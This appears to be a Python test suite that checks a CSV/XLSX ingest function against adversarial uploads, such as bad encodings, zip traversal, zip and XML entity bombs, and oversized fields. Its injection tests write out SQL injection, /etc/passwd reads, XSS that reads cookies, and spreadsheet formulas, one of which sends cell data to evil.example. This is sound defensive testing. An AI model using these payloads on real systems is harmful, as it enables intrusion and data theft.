"""Adversarial files through `ingest_file`: each is refused with a clear message and the store left
exactly as it was, or loaded correctly. Nothing partial, nothing accepted lost (DESIGN §3, §10)."""

from __future__ import annotations

import re
import zipfile
from pathlib import Path
from typing import Any

import duckdb
import pytest

from answerable.errors import IngestError
from answerable.ingest import IngestReport, ingest_file
from tests.conftest import load_rows
from tests.hardening.state import consistency_problems, snapshot

HEAD = "incident_id,opened_at,category,priority,assigned_to,reassignment_count\n"
GOOD = "INC1,2026-01-05 10:00:00,Network,2,Ana,0\nINC2,2026-01-06 11:30:00,Access,3,Li,1\n"


@pytest.fixture
def seeded(con: duckdb.DuckDBPyConnection) -> duckdb.DuckDBPyConnection:
    """A store that already holds data, so "unchanged" is a real claim, not an empty one."""
    load_rows(
        con, "incidents", [{"incident_id": "OLD1", "opened_at": "2025-12-01 08:00:00", "category": "Old"}]
    )
    return con


def refused(
    con: duckdb.DuckDBPyConnection, path: Path, pattern: str, *, path_may_show: bool = False, **kw: Any
) -> IngestError:
    """Ingest must raise IngestError whose message matches `pattern`, and change nothing."""
    before = snapshot(con)
    with pytest.raises(IngestError) as info:
        ingest_file(con, path, **kw)
    message = str(info.value)
    assert re.search(pattern, message, re.IGNORECASE | re.DOTALL), message
    if not path_may_show:  # names the file, never the server-side folder it was staged in
        assert str(Path(path).parent) not in message
    assert snapshot(con) == before
    assert consistency_problems(con) == []
    return info.value


def loaded(con: duckdb.DuckDBPyConnection, path: Path, **kw: Any) -> IngestReport:
    report = ingest_file(con, path, **kw)
    assert report.status == "loaded"
    assert consistency_problems(con) == []
    return report


def current(con: duckdb.DuckDBPyConnection, key: str, column: str, kind: str = "incidents") -> Any:
    key_col = {"incidents": "incident_id", "ai_decisions": "decision_id"}[kind]
    row = con.execute(
        f'SELECT "{column}" FROM current_{kind} WHERE {key_col} = ?',
        [key],
    ).fetchone()
    assert row is not None, f"{key} not in current_{kind}"
    return row[0]


def write(tmp_path: Path, name: str, data: str | bytes, encoding: str = "utf-8") -> Path:
    p = tmp_path / name
    p.write_bytes(data if isinstance(data, bytes) else data.encode(encoding))
    return p


# --- encodings -------------------------------------------------------------------------------------------


# Tests marked "(found)" below exposed a weakness in ingestion, fixed in commit 265d47f.


# (found) UTF-16 files were refused as 'binary'; fixed in 265d47f.
def test_utf16_with_bom_is_decoded(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    # Excel's "Unicode Text" export is UTF-16 LE with a BOM (tab-delimited); big-endian exists too.
    p = write(tmp_path, "u16.csv", b"\xff\xfe" + (HEAD + GOOD).replace(",", "\t").encode("utf-16-le"))
    loaded(seeded, p, kind="incidents")
    assert current(seeded, "INC2", "assigned_to") == "Li"
    p = write(
        tmp_path, "u16be.csv", b"\xfe\xff" + (HEAD + "INC3,2026-01-07,Zoë,2,Zoë,0\n").encode("utf-16-be")
    )
    loaded(seeded, p, kind="incidents")
    assert current(seeded, "INC3", "category") == "Zoë"


def test_cp1252_text_is_decoded(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    text = HEAD + "INC1,2026-01-05 10:00:00,Résumé – “Zoë” €,2,Zoë,0\n"
    loaded(seeded, write(tmp_path, "w.csv", text, "cp1252"), kind="incidents")
    assert current(seeded, "INC1", "category") == "Résumé – “Zoë” €"  # cp1252 bytes 0x96 0x93 0x94 0x80


def test_invalid_utf8_bytes_fall_back_to_a_single_byte_encoding(
    seeded: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    data = (HEAD + "INC1,2026-01-05 10:00:00,Caf").encode() + b"\xe9" + b",2,Ana,0\n"
    loaded(seeded, write(tmp_path, "bad8.csv", data), kind="incidents")
    assert current(seeded, "INC1", "category") == "Café"  # 0xE9 is é in cp1252 and latin-1


def test_nul_bytes_at_the_start(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "nul.csv", (HEAD + "INC1\x00,2026-01-05 10:00:00,Net,2,Ana,0\n").encode())
    refused(seeded, p, r"binary|NUL", kind="incidents")


# (found) NUL bytes were checked in the first 64 KiB only and stored in text; fixed in 265d47f.
def test_nul_bytes_after_the_first_64_kib(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    filler = "".join(f"INC{i},2026-01-05 10:00:00,Network,2,Ana,0\n" for i in range(3000))  # ~120 KB
    p = write(tmp_path, "late_nul.csv", (HEAD + filler + "INCX,2026-01-05,N\x00et,2,Ana,0\n").encode())
    refused(seeded, p, r"binary|NUL", kind="incidents")


def test_utf8_bom_and_crlf(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "bom.csv", b"\xef\xbb\xbf" + (HEAD + GOOD).replace("\n", "\r\n").encode())
    report = loaded(seeded, p, kind="incidents")
    assert (report.rows_read, report.records) == (2, 2)
    assert current(seeded, "INC2", "reassignment_count") == 1  # last column: no stray \r


def test_classic_mac_line_endings(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "mac.csv", (HEAD + GOOD).replace("\n", "\r"))
    report = loaded(seeded, p, kind="incidents")
    assert (report.rows_read, report.records) == (2, 2)
    assert current(seeded, "INC2", "reassignment_count") == 1


# --- structure -------------------------------------------------------------------------------------------


def test_empty_file(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    refused(seeded, write(tmp_path, "empty.csv", b""), r"empty", kind="incidents")


def test_whitespace_only_file(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    refused(seeded, write(tmp_path, "blank.csv", "\n\r\n  \n"), r"empty", kind="incidents")


def test_header_only(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    refused(seeded, write(tmp_path, "head.csv", HEAD), r"no data rows|header only|no rows", kind="incidents")


def test_ragged_row_with_an_extra_field_is_never_shifted(
    seeded: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    p = write(tmp_path, "ragged.csv", HEAD + GOOD + "INC3,2026-01-07 09:00:00,Net,2,Ana,0,EXTRA\n")
    try:
        report = ingest_file(seeded, p, kind="incidents")
    except IngestError as exc:
        assert re.search(r"line 4", str(exc)), str(exc)  # header = line 1, INC3 = line 4
        assert re.search(r"field|column", str(exc), re.IGNORECASE)
        return
    # Loaded: then INC3 must be rejected (line 4), never loaded with shifted values.
    assert report.rows_rejected == 1 and report.problems[0].line == 4
    assert seeded.execute("SELECT count(*) FROM current_incidents WHERE incident_id = 'INC3'").fetchone() == (
        0,
    )


def test_short_row_is_never_shifted(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "short.csv", HEAD + GOOD + "INC3,2026-01-07 09:00:00,Net\n")
    try:
        report = ingest_file(seeded, p, kind="incidents")
    except IngestError as exc:
        assert re.search(r"line 4", str(exc)), str(exc)
        return
    assert report.rows_rejected == 1 and report.problems[0].line == 4


def test_unterminated_quote(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(
        tmp_path,
        "quote.csv",
        HEAD + GOOD + 'INC3,2026-01-07 09:00:00,"Net,2,Ana,0\nINC4,2026-01-08,X,1,B,0\n',
    )
    refused(seeded, p, r"quote|unterminated|line", kind="incidents")


def test_mixed_delimiters(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    body = GOOD + "INC3;2026-01-07 09:00:00;Net;2;Ana;0\nINC4;2026-01-08 09:00:00;Net;2;Ana;0\n"
    p = write(tmp_path, "mixed.csv", HEAD + body)
    # The semicolon rows have one field: refused (or rejected), never loaded as if they were fine.
    try:
        report = ingest_file(seeded, p, kind="incidents")
    except IngestError as exc:
        assert re.search(r"line 4", str(exc)), str(exc)
        return
    assert report.rows_rejected == 2
    assert seeded.execute(
        "SELECT count(*) FROM current_incidents WHERE incident_id LIKE 'INC3%'"
    ).fetchone() == (0,)


def test_permuted_headers_map_by_name(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    text = "priority,assigned_to,opened_at,incident_id,category\n3,Ana,2026-01-05 10:00:00,INC9,Network\n"
    loaded(seeded, write(tmp_path, "perm.csv", text), kind="incidents")
    assert current(seeded, "INC9", "priority") == 3
    assert current(seeded, "INC9", "assigned_to") == "Ana"
    assert current(seeded, "INC9", "category") == "Network"


def test_duplicate_headers(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "dup.csv", "incident_id,opened_at,category,Category\nI1,2026-01-05,A,B\n")
    refused(seeded, p, r"Category.*unique|both named", kind="incidents")


def test_thousands_of_columns(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    extra = 5000
    head = "incident_id,opened_at," + ",".join(f"x{i}" for i in range(extra)) + "\n"
    row = "INC7,2026-01-05 10:00:00," + ",".join("v" for _ in range(extra)) + "\n"
    report = loaded(seeded, write(tmp_path, "wide.csv", head + row * 3), kind="incidents")
    assert report.records == 1 and report.rows_read == 3  # three versions of INC7 collapse into 1


# (found) DuckDB's 2 MB line cap refused long cells with an unclear message; fixed in 265d47f.
def test_header_longer_than_64_kib(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    n = 5000  # 5,000 columns of 39-character names: a 195 KB header line
    head = "incident_id,opened_at," + ",".join(f"a_rather_long_column_name_number_{i:05d}" for i in range(n))
    row = "INC1,2026-01-05 10:00:00," + ",".join("v" for _ in range(n))
    report = loaded(seeded, write(tmp_path, "wide_names.csv", head + "\n" + row + "\n"), kind="incidents")
    assert report.records == 1
    assert str(current(seeded, "INC1", "opened_at")) == "2026-01-05 10:00:00"


def test_multi_megabyte_field(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    big = "A" * (5 * 1024 * 1024)  # 5 MiB in one cell (DuckDB's default max_line_size is 2 MB)
    p = write(
        tmp_path, "big.csv", HEAD + f'INC1,2026-01-05 10:00:00,"{big}",2,Ana,0\n' + GOOD.split("\n")[1] + "\n"
    )
    loaded(seeded, p, kind="incidents")
    assert current(seeded, "INC1", "category") == big


# (found) the message was 'unterminated quote' / 'CSV Error'; fixed in 265d47f.
def test_overlong_line_is_a_clear_error(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    huge = "A" * (40 * 1024 * 1024)  # 40 MiB in one cell: over any sensible line limit
    p = write(tmp_path, "huge.csv", HEAD + f'INC1,2026-01-05 10:00:00,"{huge}",2,Ana,0\n')
    refused(seeded, p, r"line 2.*(longer|long|size).*MB", kind="incidents")


def test_binary_file_renamed_csv(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(range(256)) * 40
    refused(seeded, write(tmp_path, "photo.csv", png), r"binary|not a text", kind="incidents")


def test_random_bytes_without_nul(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    import random

    rnd = random.Random(7)
    junk = bytes(rnd.randrange(1, 256) for _ in range(20000))
    refused(seeded, write(tmp_path, "junk.csv", junk), r".", kind="incidents")


def test_xlsx_with_several_sheets_formulas_and_merged_cells(
    seeded: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    notes = wb.active
    assert notes is not None
    notes.title = "Empty cover"  # no data: skipped, the first sheet WITH data is read
    ws = wb.create_sheet("Incidents")
    ws.append(["incident_id", "opened_at", "category", "priority", "assigned_to"])
    ws.append(["INC1", "2026-01-05 10:00:00", "Network", 2, "Ana"])
    ws.append(["INC2", "2026-01-06 11:30:00", '=HYPERLINK("http://evil.example","x")', "=1+1", "Li"])
    ws.append(["INC3", "2026-01-07 09:00:00", "Merged", 4, "Kim"])
    ws.append(["INC4", "2026-01-08 09:00:00", None, 5, "Lee"])
    ws.merge_cells("C4:C5")  # INC3's category spans INC4's row: only the top-left cell has a value
    other = wb.create_sheet("Decisions")
    other.append(["decision_id", "decided_at", "ai_system"])
    other.append(["D1", "2026-01-05", "Bot"])
    p = tmp_path / "book.xlsx"
    wb.save(p)
    report = loaded(seeded, p, kind="incidents")
    assert report.records == 4
    # A formula is never evaluated; the file has no cached result (never opened in Excel): null.
    assert current(seeded, "INC2", "category") is None
    assert current(seeded, "INC2", "priority") is None
    assert current(seeded, "INC3", "category") == "Merged"
    assert current(seeded, "INC4", "category") is None


# --- values ----------------------------------------------------------------------------------------------


def _one_column_file(tmp_path: Path, opened: list[str]) -> Path:
    rows = "".join(f"INC{i},{v},Net\n" for i, v in enumerate(opened, start=1))
    return write(tmp_path, "dates.csv", "incident_id,opened_at,category\n" + rows)


def test_impossible_dates_are_rejected_rows(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = _one_column_file(
        tmp_path, ["28/02/2023 10:00", "31/02/2024 10:00", "29/02/2023 10:00", "29/02/2024 10:00"]
    )
    report = loaded(seeded, p, kind="incidents")
    # 31 Feb never exists; 2023 is not a leap year (2023 % 4 = 3); 2024 is. Lines 3 and 4 rejected.
    assert report.rows_rejected == 2
    assert sorted((pr.line, pr.column, pr.value) for pr in report.problems) == [
        (3, "opened_at", "31/02/2024 10:00"),
        (4, "opened_at", "29/02/2023 10:00"),
    ]
    assert str(current(seeded, "INC4", "opened_at")) == "2024-02-29 10:00:00"


def test_epoch_numbers_in_a_timestamp_column(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    # 1767607200 is an epoch; in a column of ISO dates it is not a date (never guessed per row).
    p = _one_column_file(tmp_path, ["2026-01-05 10:00:00", "1767607200", "2026-01-06 10:00:00"])
    report = loaded(seeded, p, kind="incidents")
    assert [(pr.line, pr.value) for pr in report.problems] == [(3, "1767607200")]
    assert report.records == 2


def test_a_column_of_epoch_numbers_is_read_as_unix_times(
    seeded: duckdb.DuckDBPyConnection, tmp_path: Path
) -> None:
    # (second edition: a column of Unix times is one format, chosen for the whole column, as logging
    # pipelines write them; it used to refuse the file.) 2026-01-05 is day 56 x 365 + 14 leap days + 4
    # = 20,458 since 1970-01-01: 20,458 x 86,400 = 1,767,571,200; + 36,000 s (10 h) = 1,767,607,200.
    # 1,767,693,600 is 86,400 s (one day) later.
    report = loaded(seeded, _one_column_file(tmp_path, ["1767607200", "1767693600"]), kind="incidents")
    assert report.date_formats["opened_at"] == "Unix time in seconds (UTC)"
    assert str(current(seeded, "INC1", "opened_at")) == "2026-01-05 10:00:00"
    assert str(current(seeded, "INC2", "opened_at")) == "2026-01-06 10:00:00"


DECISIONS_HEAD = "decision_id,decided_at,ai_system,confidence\n"


# (found) 'inf' made the whole column a percentage (0.9 stored as 0.009); fixed in 265d47f.
def test_nan_inf_and_negative_confidence(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    rows = "D1,2026-01-05,Bot,0.9\nD2,2026-01-05,Bot,NaN\nD3,2026-01-05,Bot,inf\nD4,2026-01-05,Bot,-0.2\n"
    p = write(tmp_path, "conf.csv", DECISIONS_HEAD + rows)
    report = ingest_file(seeded, p, kind="ai_decisions")
    assert consistency_problems(seeded) == []
    # NaN is a null token (DESIGN §3): missing confidence, not low. inf is not a confidence: rejected,
    # and it must NOT make the column look like percentages (0.9 stays 0.9, not 0.009).
    assert current(seeded, "D1", "confidence", "ai_decisions") == 0.9
    assert current(seeded, "D2", "confidence", "ai_decisions") is None
    assert [(pr.line, pr.value) for pr in report.problems] == [(4, "inf")]
    # -0.2 is implausible, not unparseable: loaded and flagged as a warning.
    assert current(seeded, "D4", "confidence", "ai_decisions") == -0.2
    assert any(w.line == 5 and w.column == "confidence" for w in report.warnings)


def test_negative_counts_load_with_a_warning(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(
        tmp_path, "neg.csv", HEAD + "INC1,2026-01-05 10:00:00,Net,2,Ana,-3\n" + GOOD.split("\n")[1] + "\n"
    )
    report = loaded(seeded, p, kind="incidents")
    assert current(seeded, "INC1", "reassignment_count") == -3
    assert any(w.line == 2 and w.column == "reassignment_count" for w in report.warnings)


def test_huge_numbers(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    rows = (
        "INC1,2026-01-05 10:00:00,Net,2,Ana,99999999999999999999999\n"  # > 2^63: not a BIGINT
        "INC2,2026-01-05 10:00:00,Net,2,Ana,9223372036854775807\n"  # 2^63 - 1: the largest BIGINT
        "INC3,2026-01-05 10:00:00,Net,2,Ana,1\n"
    )
    report = loaded(seeded, write(tmp_path, "huge.csv", HEAD + rows), kind="incidents")
    assert [(pr.line, pr.column) for pr in report.problems] == [(2, "reassignment_count")]
    assert current(seeded, "INC2", "reassignment_count") == 9223372036854775807


# --- injection -------------------------------------------------------------------------------------------

SQLI = "x'); DROP TABLE batches; --"


def test_sql_looking_values_are_stored_verbatim(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    key = "INC'; DELETE FROM rows_incidents; --"
    rows = f'"{key}",2026-01-05 10:00:00,"{SQLI}",2,"Robert\'); DROP TABLE batches;--",0\n'
    loaded(seeded, write(tmp_path, "sqli.csv", HEAD + rows + GOOD), kind="incidents")
    assert current(seeded, key, "category") == SQLI
    assert current(seeded, "OLD1", "category") == "Old"  # nothing deleted
    assert len(snapshot(seeded).batches) == 2


def test_sql_looking_headers_are_ignored(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    head = f'incident_id,opened_at,"{SQLI}","a"" OR 1=1 --"\n'
    report = loaded(seeded, write(tmp_path, "sqlh.csv", head + "INC1,2026-01-05,v1,v2\n"), kind="incidents")
    assert report.records == 1
    tables = {r[0] for r in seeded.execute("SELECT table_name FROM information_schema.tables").fetchall()}
    assert {"batches", "rows_incidents", "rejects"} <= tables


def test_a_mapping_cannot_point_at_another_file(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    from answerable.ingest import Mapping

    mapping = Mapping(
        kind="incidents", columns={"incident_id": "read_csv('/etc/passwd')", "opened_at": "opened_at"}
    )
    p = write(tmp_path, "m.csv", "id,opened_at\nINC1,2026-01-05\n")
    refused(seeded, p, r"read_csv\('/etc/passwd'\)", kind="incidents", mapping=mapping)


def test_file_reading_sql_as_a_value_is_text(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    value = "' || (SELECT * FROM read_csv('/etc/passwd')) || '"
    loaded(seeded, write(tmp_path, "rc.csv", HEAD + f'INC1,2026-01-05,"{value}",2,Ana,0\n'), kind="incidents")
    assert current(seeded, "INC1", "category") == value


@pytest.mark.parametrize(
    "value", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+cmd|' /C calc'!A0", "-1+1", "@SUM(A1:A9)"]
)
def test_formula_looking_values_are_stored_as_text(
    seeded: duckdb.DuckDBPyConnection, tmp_path: Path, value: str
) -> None:
    quoted = '"' + value.replace('"', '""') + '"'
    loaded(
        seeded, write(tmp_path, "f.csv", HEAD + f"INC1,2026-01-05,{quoted},2,{quoted},0\n"), kind="incidents"
    )
    assert current(seeded, "INC1", "category") == value
    assert current(seeded, "INC1", "assigned_to") == value


def test_script_in_values_and_file_name(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    script = "<script>alert(document.cookie)</script>"
    p = write(tmp_path, "upload.csv", HEAD + f"INC1,2026-01-05,{script},2,<img src=x onerror=alert(1)>,0\n")
    name = "<script>alert(1)</script>.csv"
    report = loaded(seeded, p, kind="incidents", display_name=name)
    assert current(seeded, "INC1", "category") == script
    assert seeded.execute(
        "SELECT file_name FROM batches WHERE batch_id = ?", [report.batch_id]
    ).fetchone() == (name,)


def test_path_like_display_name_is_only_a_name(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = write(tmp_path, "upload.csv", HEAD + GOOD)
    report = loaded(seeded, p, kind="incidents", display_name="../../etc/passwd.csv")
    row = seeded.execute("SELECT file_name FROM batches WHERE batch_id = ?", [report.batch_id]).fetchone()
    assert row is not None and row[0] in ("../../etc/passwd.csv", "passwd.csv")
    assert current(seeded, "INC2", "assigned_to") == "Li"  # the data came from the upload, not /etc/passwd


# (found) a display name '..' became a temp path: 'Is a directory'; fixed in 265d47f.
def test_path_like_display_name_of_a_gzip(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    import gzip

    p = write(tmp_path, "upload.gz", gzip.compress((HEAD + GOOD).encode()))
    for name in ("..", "../../../tmp/evil.csv.gz", "/"):
        report = ingest_file(seeded, p, kind="incidents", display_name=name)
        assert report.status in ("loaded", "duplicate")
    assert consistency_problems(seeded) == []
    assert not Path("/tmp/evil.csv").exists()


def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for name, data in members.items():
            z.writestr(name, data)
    return path


def test_zip_member_with_a_traversal_name(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = _zip(tmp_path / "t.zip", {"../../../../tmp/answerable-escaped.csv": (HEAD + GOOD).encode()})
    loaded(seeded, p, kind="incidents")
    assert not Path("/tmp/answerable-escaped.csv").exists()
    assert current(seeded, "INC1", "assigned_to") == "Ana"


# (found) a member named '..' raised IsADirectoryError, not IngestError; fixed in 265d47f.
@pytest.mark.parametrize("member", ["..", "a/.."])
def test_zip_member_named_dot_dot(seeded: duckdb.DuckDBPyConnection, tmp_path: Path, member: str) -> None:
    p = _zip(tmp_path / "dd.zip", {member: (HEAD + GOOD).encode()})
    loaded(seeded, p, kind="incidents")  # the member's name is irrelevant: its content is a good CSV
    assert current(seeded, "INC2", "assigned_to") == "Li"


def test_zip_with_two_members(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = _zip(tmp_path / "two.zip", {"a.csv": (HEAD + GOOD).encode(), "b.csv": (HEAD + GOOD).encode()})
    refused(seeded, p, r"exactly one CSV", kind="incidents")


def test_zip_inside_a_zip(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    inner = _zip(tmp_path / "inner.zip", {"a.csv": (HEAD + GOOD).encode()}).read_bytes()
    p = _zip(tmp_path / "outer.zip", {"inner.zip": inner})
    refused(seeded, p, r"binary|not a text|zip", kind="incidents")


# (found) temp files outside the app's allowed directories: raw PermissionException; fixed in 265d47f.
@pytest.mark.parametrize("fmt", ["zip", "gz", "cp1252", "late_cp1252", "xlsx"])
def test_app_locked_connection_reads_zip_gz_and_transcoded_uploads(
    db_path: Path, tmp_path: Path, fmt: str
) -> None:
    import gzip

    from answerable import security, store

    uploads = tmp_path / "uploads"
    uploads.mkdir()
    # One good row, one row with an impossible date (rejected: its value is read back for the report),
    # and for "late_cp1252" 1.5 MB of ASCII rows before the first cp1252 byte.
    filler = (
        "".join(f"F{i},2026-01-05 10:00:00,Net,2,Ana,0\n" for i in range(45_000))
        if fmt == "late_cp1252"
        else ""
    )
    text = HEAD + filler + "INC1,2026-01-05 10:00:00,Café,2,Zoë,0\nINC2,31/02/2026,Net,2,Ana,0\n"
    data = text.encode("cp1252" if fmt.endswith("cp1252") else "utf-8")
    path = uploads / f"upload.{fmt}"
    if fmt == "zip":
        _zip(path, {"incidents.csv": data})
    elif fmt == "gz":
        path.write_bytes(gzip.compress(data))
    elif fmt == "xlsx":
        import csv
        import io

        import openpyxl

        wb = openpyxl.Workbook()
        ws = wb.active
        assert ws is not None
        for row in csv.reader(io.StringIO(text)):
            ws.append(row)
        wb.save(path)
    else:
        path.write_bytes(data)
    con = store.connect(db_path)
    try:
        security.lock_down(con, [uploads])  # exactly what the app does
        report = ingest_file(con.cursor(), path, kind="incidents")
        assert report.records == 1 + (45_000 if fmt == "late_cp1252" else 0)
        assert current(con, "INC1", "category") == "Café"
        assert [(pr.column, pr.value) for pr in report.problems] == [("opened_at", "31/02/2026")]
        assert con.execute("SELECT value FROM rejects").fetchall() == [("31/02/2026",)]
    finally:
        con.close()


def _xlsx_with_sheet(tmp_path: Path, name: str, sheet_xml: bytes) -> Path:
    import io

    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["incident_id", "opened_at"])
    buf = io.BytesIO()
    wb.save(buf)
    out = tmp_path / name
    with zipfile.ZipFile(buf) as zin, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = sheet_xml if info.filename == "xl/worksheets/sheet1.xml" else zin.read(info)
            zout.writestr(info.filename, data)
    return out


def test_xlsx_with_an_xml_entity_bomb(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    # "Billion laughs": 10^9 copies of "lol" from a 1 KB sheet if entities were expanded.
    entities = '<!ENTITY lol "lol">' + "".join(
        f'<!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">' for i in range(1, 10)
    )
    sheet = (
        f"<?xml version='1.0'?><!DOCTYPE lolz [{entities}]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        '<row><c t="inlineStr"><is><t>incident_id</t></is></c>'
        '<c t="inlineStr"><is><t>opened_at</t></is></c></row>'
        '<row><c t="inlineStr"><is><t>&lol9;</t></is></c>'
        '<c t="inlineStr"><is><t>2026-01-05</t></is></c></row>'
        "</sheetData></worksheet>"
    ).encode()
    path = _xlsx_with_sheet(tmp_path, "lol.xlsx", sheet)
    err = refused(seeded, path, r"workbook cannot be read", kind="incidents", display_name="mine.xlsx")
    # The message names the user's file, never the server-side path it was staged at.
    assert str(tmp_path) not in str(err) and "mine.xlsx" in str(err)


# (found) raw openpyxl InvalidFileException; fixed in 265d47f.
def test_xlsx_renamed_csv_is_read_as_a_workbook(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    import openpyxl

    wb = openpyxl.Workbook()
    ws = wb.active
    assert ws is not None
    ws.append(["incident_id", "opened_at", "category"])
    ws.append(["INC1", "2026-01-05 10:00:00", "Network"])
    p = tmp_path / "really_a_workbook.csv"
    wb.save(p)
    loaded(seeded, p, kind="incidents")
    assert current(seeded, "INC1", "category") == "Network"


def test_office_document_that_is_not_a_workbook(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    p = _zip(tmp_path / "letter.docx", {"[Content_Types].xml": b"<Types/>", "word/document.xml": b"<w/>"})
    refused(seeded, p, r"cannot be read|workbook|not", kind="incidents")


def test_a_directory_is_not_a_file(seeded: duckdb.DuckDBPyConnection, tmp_path: Path) -> None:
    folder = tmp_path / "exports.csv"
    folder.mkdir()
    # A folder is only ever given on the command line: the path is the user's own, so it may show.
    refused(
        seeded, folder, r"exports\.csv.*(folder|directory|not a file)", kind="incidents", path_may_show=True
    )


def _hostile_corpus(tmp_path: Path) -> dict[str, Path]:
    """One file per kind of trouble, for the app's preview path (inspect_file)."""
    import gzip

    from tests.hardening.bombs import zip_bomb

    files = {
        "empty": write(tmp_path, "empty.csv", b""),
        "header_only": write(tmp_path, "head.csv", HEAD),
        "ragged": write(tmp_path, "ragged.csv", HEAD + GOOD + "INC3,2026-01-07,Net,2,Ana,0,EXTRA\n"),
        "unterminated": write(tmp_path, "quote.csv", HEAD + 'INC3,2026-01-07,"Net,2,Ana,0\n'),
        "binary": write(tmp_path, "bin.csv", b"\x89PNG\r\n\x1a\n\x00\x00" + bytes(range(256))),
        "utf16": write(tmp_path, "u16.csv", b"\xff\xfe" + (HEAD + GOOD).encode("utf-16-le")),
        "late_nul": write(tmp_path, "nul.csv", (HEAD + GOOD * 2000 + "X,\x00\n").encode()),
        # a duplicated name is refused when a mapped column uses it (DESIGN §3, second edition)
        "duplicate_headers": write(
            tmp_path, "dup.csv", "incident_id,opened_at,category,Category\nI1,2026-01-05,1,2\n"
        ),
        "mixed": write(tmp_path, "mixed.csv", HEAD + "INC3;2026-01-07;Net;2;Ana;0\n"),
        "sql_header": write(
            tmp_path, "sqlh.csv", 'incident_id,opened_at,"x\'); DROP TABLE t; --"\nI,2026-01-05,v\n'
        ),
        "gzip": write(tmp_path, "data.csv.gz", gzip.compress((HEAD + GOOD).encode())),
        "zip_dotdot": _zip(tmp_path / "dd.zip", {"..": (HEAD + GOOD).encode()}),
        "zip_two": _zip(tmp_path / "two.zip", {"a.csv": b"a\n1\n", "b.csv": b"b\n2\n"}),
        "office": _zip(tmp_path / "letter.docx", {"[Content_Types].xml": b"<Types/>", "word/d.xml": b"<w/>"}),
        "cr_only": write(tmp_path, "mac.csv", (HEAD + GOOD).replace("\n", "\r")),
    }
    zip_bomb(tmp_path / "bomb.zip", segments=2)  # 128 MiB inflated, over the 64 MB limit set below
    files["zip_bomb"] = tmp_path / "bomb.zip"
    return files


def test_the_preview_path_never_crashes(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The app previews every upload with inspect_file before loading: only clear errors may escape."""
    from answerable.errors import AnswerableError
    from answerable.ingest import inspect_file

    monkeypatch.setenv("ANSWERABLE_MAX_UPLOAD_MB", "64")
    outcomes: dict[str, str] = {}
    for label, path in _hostile_corpus(tmp_path).items():
        try:
            preview = inspect_file(path, kind="incidents", display_name=f"{label}.csv")
        except AnswerableError as exc:
            assert str(exc).strip(), label
            outcomes[label] = "refused"
        else:
            outcomes[label] = "refused" if preview.file_problems else "previewed"
    # Files that cannot load say so in the preview; the rest preview fine. Nothing raised anything else.
    for label in (
        "empty",
        "header_only",
        "binary",
        "late_nul",
        "duplicate_headers",
        "zip_two",
        "zip_bomb",
        "unterminated",
        "ragged",
        "office",
    ):
        assert outcomes[label] == "refused", (label, outcomes[label])
    for label in ("utf16", "sql_header", "gzip", "zip_dotdot", "cr_only"):
        assert outcomes[label] == "previewed", (label, outcomes[label])


@pytest.mark.parametrize(
    ("option", "value"),
    [
        ("delimiter", ";;"),
        ("timestamp_format", "%Q-%d"),
        ("timezone", "Mars/Olympus"),
        ("timezone", "UTC'; DROP TABLE batches; --"),
    ],
)
def test_invalid_mapping_options_are_clear_errors(
